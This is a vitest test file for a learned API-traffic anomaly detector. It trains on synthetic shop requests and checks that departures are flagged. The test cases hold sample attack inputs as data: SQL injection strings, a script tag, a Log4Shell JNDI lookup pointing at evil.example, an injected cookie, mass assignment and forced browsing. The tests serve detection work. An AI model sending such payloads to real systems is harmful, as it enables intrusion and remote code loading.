import { describe, expect, it } from 'vitest';
import type { ApiEvent } from '../../contracts/api-event.js';
import { DEFAULT_LIMITS } from '../../normalize/limits.js';
import { normalizeEvent } from '../../normalize/normalize-event.js';
import type { Detection } from '../types.js';
import { createProfileLearner, createProfileScorer, parseProfileModel, type ProfileModel } from './index.js';

/**
 * The positive model on a small synthetic shop: learned from generated normal traffic, then judged on
 * fresh normal traffic (nothing may fire) and on attacks and tampering that no signature is needed for.
 */

function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const USERS = ['ana', 'bruno', 'carla', 'diego', 'elena', 'felix', 'gema', 'hugo', 'ines', 'jorge', 'karla', 'luis', 'marta', 'nico', 'olga', 'pablo', 'quim', 'rosa'];
const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0', 'Mozilla/5.0 (Macintosh) Safari/605.1.15', 'curl/8.5.0'];
const NOTES = ['leave at the door', 'ring twice', 'gift wrap, please', 'call me (mobile) on arrival', 'no note'];

function event(input: Record<string, unknown>): ApiEvent {
  const r = normalizeEvent({ timestamp: '2026-01-01T00:00:00Z', ...input }, { source: 'ndjson', limits: DEFAULT_LIMITS });
  if (!r.ok) throw new Error(r.reject.reason);
  return r.event;
}

/** One normal request of the shop, chosen by the generator. */
function normal(rnd: () => number): ApiEvent {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const headers = { 'user-agent': pick(AGENTS), accept: 'application/json', cookie: `session=${Math.floor(rnd() * 1e12).toString(16).padStart(10, '0')}; theme=${pick(['dark', 'light'])}` };
  const k = rnd();
  if (k < 0.4) {
    const id = 1000 + Math.floor(rnd() * 8000);
    return event({ request: { method: 'GET', url: `https://shop.example/products/${id}?page=${1 + Math.floor(rnd() * 30)}&sort=${pick(['asc', 'desc'])}`, headers } });
  }
  if (k < 0.6) {
    const user = pick(USERS);
    return event({ request: { method: 'POST', url: 'https://shop.example/login', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: `user=${user}&password=${pick(['s3cret!', 'hunter2', 'correct horse'])}` } });
  }
  if (k < 0.8) {
    return event({ request: { method: 'GET', url: `https://shop.example/users/${pick(USERS)}${Math.floor(rnd() * 100)}/profile`, headers } });
  }
  const items = Array.from({ length: 1 + Math.floor(rnd() * 3) }, () => ({ sku: `SKU-${1000 + Math.floor(rnd() * 9000)}`, qty: 1 + Math.floor(rnd() * 9) }));
  return event({ request: { method: 'POST', url: 'https://shop.example/orders', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify({ items, note: pick(NOTES), email: `${pick(USERS)}@mail.example` }) } });
}

function learnShop(n = 600, seed = 1): ProfileModel {
  const rnd = prng(seed);
  const learner = createProfileLearner();
  for (let i = 0; i < n; i++) learner.learn(normal(rnd));
  return learner.finish(new Date('2026-01-02T00:00:00Z'));
}

const model = learnShop();
const scorer = createProfileScorer(model);
const over = (ds: Detection[], min = 0.5) => ds.filter((d) => d.confidence >= min);

const H = { 'user-agent': AGENTS[0], accept: 'application/json', cookie: 'session=00ab12cd34; theme=dark' };

describe('learning', () => {
  it('learns the endpoints by template, with path parameters from the discovery templater', () => {
    expect(model.events).toBe(600);
    const h = model.hosts[0]!;
    expect(h.host).toBe('shop.example');
    expect(h.endpoints.map((e) => `${e.method} ${e.template}`)).toEqual(['POST /login', 'POST /orders', 'GET /products/{product_id}', 'GET /users/{user}/profile']);
    const products = h.endpoints.find((e) => e.template === '/products/{product_id}')!;
    const id = products.params.find((p) => p.in === 'path')!;
    expect(id).toMatchObject({ name: 'product_id', types: { int: products.requests }, len: { min: 4, max: 4 } });
    const sort = products.params.find((p) => p.name === 'sort')!;
    expect(sort.enum?.map((e) => e.v).sort()).toEqual(['asc', 'desc']);
    // Literal segments learned before /users/{user} was settled became values of its path parameter.
    const users = h.endpoints.find((e) => e.template === '/users/{user}/profile')!;
    expect(users.params.find((p) => p.in === 'path')).toMatchObject({ name: 'user', requests: users.requests, values: users.requests });
  });

  it('keeps no personal data or secret in the model: sensitive parameters get no value set, and no password or e-mail is stored', () => {
    const text = JSON.stringify(model);
    for (const secret of ['s3cret!', 'hunter2', 'correct horse', '@mail.example']) expect(text).not.toContain(secret);
    const login = model.hosts[0]!.endpoints.find((e) => e.template === '/login')!;
    const password = login.params.find((p) => p.name === 'password')!;
    expect(password.enum).toBeUndefined();
    expect(password.sensitive).toBe('password');
    const email = model.hosts[0]!.endpoints.find((e) => e.template === '/orders')!.params.find((p) => p.name === '/email')!;
    expect(email.enum).toBeUndefined();
    // A small set of account names is personal data too: hashes only, while a theme or a sort order stays readable.
    const learner = createProfileLearner();
    for (let i = 0; i < 40; i++) learner.learn(event({ request: { method: 'GET', url: `https://shop.example/a?login=${USERS[i % 3]}&sort=asc`, headers: H } }));
    const small = JSON.stringify(learner.finish());
    for (const u of USERS.slice(0, 3)) expect(small).not.toContain(`"${u}"`);
    expect(small).toContain('"v":"asc"');
    expect(small).toContain('"v":"dark"');
    // Session cookies are tokens: no value set either (too many values, and classified as a session token).
    expect(model.hosts[0]!.shared.params.find((p) => p.in === 'cookie' && p.name === 'session')!.enum).toBeUndefined();
  });

  it('round-trips through JSON and the schema, and scores the same after loading', () => {
    const loaded = parseProfileModel(JSON.parse(JSON.stringify(model)));
    const e = event({ request: { method: 'GET', url: "https://shop.example/products/1234?page=2'&sort=asc", headers: H } });
    expect(createProfileScorer(loaded).score(e)).toEqual(scorer.score(e));
  });

  it('rejects a file that is not a model, naming the first problem', () => {
    expect(() => parseProfileModel({ kind: 'bulwark-profile-model', version: 1 })).toThrow(/createdAt/);
    expect(() => parseProfileModel({ hello: 1 })).toThrow(/not a Bulwark profile model/);
    expect(() => parseProfileModel({ ...JSON.parse(JSON.stringify(model)), version: 2 })).toThrow(/version/);
  });
});

describe('scoring normal traffic', () => {
  it('fresh normal requests from the same shop raise nothing at the default confidence', () => {
    const rnd = prng(99);
    let flagged = 0;
    const examples: string[] = [];
    for (let i = 0; i < 400; i++) {
      const ds = over(scorer.score(normal(rnd)));
      if (ds.length > 0) {
        flagged++;
        examples.push(ds.map((d) => d.evidence).join(' | '));
      }
    }
    expect(flagged, examples.slice(0, 3).join('\n')).toBe(0);
  });

  it('says nothing about a host it never learned', () => {
    expect(scorer.score(event({ request: { method: 'GET', url: "https://other.example/x?id=1'--", headers: H } }))).toEqual([]);
  });
});

type Case = [string, Record<string, unknown>, string, string, string];
const cases: Case[] = [
  ['quote and SQL in a numeric query parameter', { method: 'GET', url: "https://shop.example/products/1234?page=1' OR '1'='1&sort=asc", headers: H }, 'anomaly-parameter-profile', 'query', 'page'],
  ['unknown member of a two-value set', { method: 'GET', url: 'https://shop.example/products/1234?page=2&sort=price', headers: H }, 'anomaly-parameter-profile', 'query', 'sort'],
  ['markup in a path parameter', { method: 'GET', url: 'https://shop.example/users/%3Cscript%3E/profile', headers: H }, 'anomaly-parameter-profile', 'path', 'user'],
  ['an overflow-sized JSON field', { method: 'POST', url: 'https://shop.example/orders', headers: { ...H, 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ sku: 'SKU-1234', qty: 1 }], note: 'A'.repeat(600), email: 'ana@mail.example' }) }, 'anomaly-parameter-profile', 'body', '/note'],
  ['a word in a numeric JSON field', { method: 'POST', url: 'https://shop.example/orders', headers: { ...H, 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ sku: 'SKU-1234', qty: 'many' }], note: 'no note', email: 'ana@mail.example' }) }, 'anomaly-parameter-profile', 'body', '/items/*/qty'],
  ['mass assignment: a field the endpoint never received', { method: 'POST', url: 'https://shop.example/login', headers: { ...H, 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=ana&password=hunter2&isAdmin=true' }, 'anomaly-unknown-parameter', 'body', 'isAdmin'],
  ['a Log4Shell lookup in a header with three learned values', { method: 'GET', url: 'https://shop.example/products/1234?page=2&sort=asc', headers: { ...H, 'user-agent': '${jndi:ldap://evil.example/a}' } }, 'anomaly-parameter-profile', 'header', 'user-agent'],
  ['an injected cookie', { method: 'GET', url: 'https://shop.example/products/1234?page=2&sort=asc', headers: { ...H, cookie: 'session=00ab12cd34; theme=dark; username=gASVyQAAAAAAAACMCGJ1aWx0aW5z' } }, 'anomaly-unknown-parameter', 'cookie', 'username'],
  ['forced browsing to a backup file', { method: 'GET', url: 'https://shop.example/backup/db.sql.bak', headers: H }, 'anomaly-unknown-endpoint', 'request', 'GET /backup/db.sql.bak'],
  ['a method never used on a known path', { method: 'DELETE', url: 'https://shop.example/orders', headers: H }, 'anomaly-unknown-endpoint', 'request', 'DELETE /orders'],
  ['a trailing-slash variant never seen', { method: 'POST', url: 'https://shop.example/login/', headers: { ...H, 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=ana&password=hunter2' }, 'anomaly-unknown-endpoint', 'request', 'POST /login/'],
  ['a required parameter left out', { method: 'POST', url: 'https://shop.example/login', headers: { ...H, 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=ana' }, 'anomaly-parameter-profile', 'body', 'password'],
];

describe('scoring departures', () => {
  it.each(cases)('%s', (_name, request, detector, where, name) => {
    const ds = over(scorer.score(event({ request })));
    expect(ds.map((d) => `${d.detector} ${d.location.where}:${d.location.name}`)).toContain(`${detector} ${where}:${name}`);
    for (const d of ds) {
      expect(d.category).toBe('anomaly');
      expect(d.evidence.length).toBeLessThanOrEqual(200);
      expect(d.confidence).toBeGreaterThan(0);
      expect(d.confidence).toBeLessThan(1);
    }
  });

  it('explains a departure and shows the attack string, but never a sensitive value', () => {
    const [d] = over(scorer.score(event({ request: { method: 'GET', url: "https://shop.example/products/1234?page=1'--&sort=asc", headers: H } })));
    expect(d!.evidence).toMatch(/^query "page" = "1'--": new characters ' - .*type text, learned int/);
    const [p] = over(scorer.score(event({ request: { method: 'POST', url: 'https://shop.example/login', headers: { ...H, 'content-type': 'application/x-www-form-urlencoded' }, body: `user=ana&password=${encodeURIComponent('<>'.repeat(30))}` } })));
    expect(p!.location).toEqual({ where: 'body', name: 'password' });
    expect(p!.evidence).toMatch(/^body "password" \(value withheld: password\): /);
    expect(p!.evidence).not.toContain('<>');
  });

  it('is surer about the same departure the more normal traffic it learned from', () => {
    const e = event({ request: { method: 'GET', url: 'https://shop.example/products/1234?page=2&sort=asc', headers: { ...H, 'user-agent': 'sqlmap/1.8' } } });
    const conf = (n: number) => Math.max(0, ...createProfileScorer(learnShop(n, 5)).score(e).filter((d) => d.location.name === 'user-agent').map((d) => d.confidence));
    expect(conf(60)).toBeLessThan(conf(600));
    expect(conf(600)).toBeGreaterThan(0.5);
  });
});

describe('bounds', () => {
  it('caps the names kept per endpoint: a flood of distinct names makes the set open, and open sets flag no unknown names', () => {
    const learner = createProfileLearner({ maxParams: 20 });
    for (let i = 0; i < 200; i++) learner.learn(event({ request: { method: 'GET', url: `https://api.example/search?q=x&f${i}=1` } }));
    const m = learner.finish();
    const ep = m.hosts[0]!.endpoints[0]!;
    expect(ep.params.length).toBe(20);
    expect(ep.open).toBe(true);
    const ds = createProfileScorer(m).score(event({ request: { method: 'GET', url: 'https://api.example/search?q=x&brand_new=1' } }));
    expect(ds.filter((d) => d.detector === 'anomaly-unknown-parameter')).toEqual([]);
  });

  it('caps hosts and endpoints per host, and value sets, whatever the traffic', () => {
    const learner = createProfileLearner({ maxHosts: 3, maxEndpointsPerHost: 10, maxEnumValues: 4 });
    for (let i = 0; i < 500; i++) learner.learn(event({ request: { method: 'GET', url: `https://h${i % 5}.example/static-${i % 50}/page?v=${i % 7}` } }));
    const m = learner.finish();
    expect(m.hosts).toHaveLength(3);
    expect(learner.stats().dropped).toBe(200);
    for (const h of m.hosts) {
      expect(h.endpoints.length).toBeLessThanOrEqual(10);
      for (const e of h.endpoints) for (const p of e.params) expect(p.enum === undefined || p.enum.length <= 4).toBe(true);
    }
  });

  it('caps parameter profiles and endpoints across all hosts, so the per-host caps cannot multiply', () => {
    const learner = createProfileLearner({ maxTotalParams: 50, maxTotalEndpoints: 30 });
    for (let i = 0; i < 400; i++) learner.learn(event({ request: { method: 'GET', url: `https://h${i % 8}.example/p${i % 40}-x?a${i % 13}=1` } }));
    const m = learner.finish();
    const endpoints = m.hosts.flatMap((h) => h.endpoints);
    expect(endpoints.length).toBeLessThanOrEqual(30);
    expect(endpoints.reduce((n, e) => n + e.params.length, 0) + m.hosts.reduce((n, h) => n + h.shared.params.length, 0)).toBeLessThanOrEqual(50);
    expect(learner.stats().dropped).toBeGreaterThan(0);
  });

  it('scores a path of many segments and a huge value in bounded time', () => {
    const deep = `https://shop.example/${Array.from({ length: 2000 }, () => `s`).join('/')}`;
    const big = `https://shop.example/products/1234?page=${'9'.repeat(4000)}&sort=asc`;
    const t = process.hrtime.bigint();
    scorer.score(event({ request: { method: 'GET', url: deep, headers: H } }));
    const ds = scorer.score(event({ request: { method: 'GET', url: big, headers: H } }));
    expect(Number(process.hrtime.bigint() - t) / 1e6).toBeLessThan(100);
    expect(over(ds).map((d) => d.location.name)).toContain('page');
  });
});
